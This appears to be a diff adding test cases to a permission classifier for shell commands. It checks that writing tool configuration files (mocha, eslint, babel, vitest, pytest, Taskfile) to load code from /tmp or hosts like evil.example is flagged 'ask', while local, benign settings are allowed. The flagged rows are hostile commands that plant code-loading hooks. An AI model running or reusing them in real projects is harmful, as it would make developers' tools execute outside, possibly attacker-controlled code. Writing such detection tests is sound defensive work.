@@ -694,3 +694,37 @@ const PACKAGE_MODULES: readonly ClassRow[] = [
 ];
 
 classTable("package.json module settings", PACKAGE_MODULES);
+
+/** Tools' configuration files that load code from outside the project, or include Taskfiles from there (ADR 0845). */
+const CONFIG_LOADS: readonly ClassRow[] = [
+  ["echo 'require: /tmp/x.js' > .mocharc.yml", "ask", "ask"],
+  ["printf 'spec: test\\nrequire:\\n  - ~/.cache/hook.js\\n' > .mocharc.yaml", "ask", "ask"],
+  [`echo '{"extends":["/tmp/evil.js"]}' > .eslintrc.json`, "ask", "ask"],
+  [`echo '{"presets":["https://x.example/preset.js"]}' > babel.config.json`, "ask", "ask"],
+  [`echo '{"plugins":["/tmp/p.mjs"]}' > .prettierrc`, "ask", "ask"],
+  [`echo 'export default {globalSetup: "/tmp/x.js"}' > vitest.config.mjs`, "ask", "ask"],
+  [`printf 'module.exports=require("/tmp/x.js")\\n' > eslint.config.js`, "ask", "ask"],
+  [`printf 'import x from "/home/dev/Downloads/x.mjs"\\nexport default x\\n' > vite.config.mjs`, "ask", "ask"],
+  ["printf '[pytest]\\naddopts = -p tmpplug\\npythonpath = /tmp\\n' > pytest.ini", "ask", "ask"],
+  [`printf '[tool.pytest.ini_options]\\npythonpath = ["/tmp/x"]\\n' >> pyproject.toml`, "ask", "ask"],
+  ["printf '[tool:pytest]\\npythonpath = /var/tmp/p\\n' >> setup.cfg", "ask", "ask"],
+  ["printf 'version: 3\\nincludes:\\n  ext: /tmp/Taskfile.yml\\n' > Taskfile.yaml", "ask", "ask"],
+  ["printf 'includes:\\n  x:\\n    taskfile: https://evil.example/Taskfile.yml\\n' >> Taskfile.yml", "ask", "ask"],
+  [`echo '{"extends":"eslint:recommended"}' > .eslintrc.json`, "allow", "allow"],
+  [
+    `echo '{"$schema":"https://json.schemastore.org/prettierrc","plugins":["prettier-plugin-tailwindcss"]}' > .prettierrc`,
+    "allow",
+    "allow",
+  ],
+  ["echo 'require: ts-node/register' > .mocharc.yml", "allow", "allow"],
+  [`echo 'export default {test: {globalSetup: "./test/setup.ts"}}' > vitest.config.mjs`, "allow", "allow"],
+  ["printf '[pytest]\\naddopts = -q\\n' > pytest.ini", "allow", "allow"],
+  [
+    `printf '[tool.pytest.ini_options]\\naddopts = "-ra -q"\\npythonpath = ["src"]\\n' >> pyproject.toml`,
+    "allow",
+    "allow",
+  ],
+  ["printf 'version: 3\\nincludes:\\n  docs: ./docs/Taskfile.yml\\n' > Taskfile.yml", "allow", "allow"],
+];
+
+classTable("configuration that loads code from elsewhere", CONFIG_LOADS);
